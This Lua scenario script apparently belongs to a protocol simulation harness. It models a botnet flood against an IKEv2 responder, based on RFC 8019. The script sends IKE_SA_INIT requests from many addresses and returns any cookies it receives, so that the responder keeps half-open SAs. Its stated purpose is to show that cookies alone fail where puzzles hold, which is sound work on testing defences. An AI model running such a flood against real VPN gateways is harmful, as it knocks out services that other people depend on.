-- A flood from addresses that mallory's machines really have: each asks for a cookie and brings it back, so that a cookie alone stops nothing.
-- None of them works for its answer: a puzzle (RFC 8019, 7.1) they do not solve.
attack = {
  name = "botnet",
  about = "Begins handshakes from many addresses of its own and returns cookies; none goes on",
  position = "on-path",
  needs = "many machines with addresses of their own",
  source = "RFC 8019, 3",
  shows = { vulnerable = "cookies alone: each machine leaves a half-open SA", hardened = "puzzles: it would have to compute for each" },
}

-- Parameters: target, count, every, wait.
local target, count, every, pair
local sent, requests, puzzled, kept = 0, {}, 0, 0

function on_start(params)
  target, count, every = params.target, tonumber(params.count), params.every or "10ms"
  pair = crypto.key_pair("x25519")
  timer.after(params.wait or "1s", "next")
end

local proposal = { number = 1, protocol = 1, spi = "", transforms = {
  { type = 1, id = 20, key_bits = 256 }, { type = 2, id = 5 }, { type = 4, id = 31 } } }

local function ask(from, spi_i, nonce, cookie, note)
  local payloads = { ike.sa(proposal), ike.ke(pair), ike.nonce(nonce) }
  if cookie then table.insert(payloads, 1, { number = 41, body = string.pack(">I1I1I2", 0, 0, 16390) .. cookie }) end
  inject{ src = from, src_port = 500, dst = target, dst_port = 500, protocol = "IKE", note = note,
    payload = ike.encode{ spi_i = spi_i, spi_r = "0000000000000000", exchange = 34, initiator = true, message_id = 0, payloads = payloads } }
end

function on_timer()
  if sent == 0 then mark("The botnet begins: " .. count .. " requests from addresses that answer.") end
  sent = sent + 1
  local spi_i = bytes.hex(crypto.random(8))
  requests[spi_i] = { from = "203.0.113." .. (1 + sent % 250), nonce = crypto.random(32) }
  ask(requests[spi_i].from, spi_i, requests[spi_i].nonce, nil, "one of the botnet begins")
  if sent < count then timer.after(every, "next") end
end

on({ exchange = "IKE_SA_INIT", response = true }, function(p, message)
  local request = requests[message.spi_i]
  if not request then return end
  drop("it came to one of the botnet's own addresses")
  local cookie, puzzle = notify_of(message, "COOKIE"), notify_of(message, "PUZZLE")
  if puzzle then
    puzzled = puzzled + 1
  elseif cookie then
    ask(request.from, message.spi_i, request.nonce, cookie.data, "and brings its cookie back")
  else
    kept = kept + 1
  end
end)

function on_finish()
  achieved("make the responder keep state", kept > 100, kept .. " half-open SAs, " .. puzzled .. " puzzles that nobody solved")
end
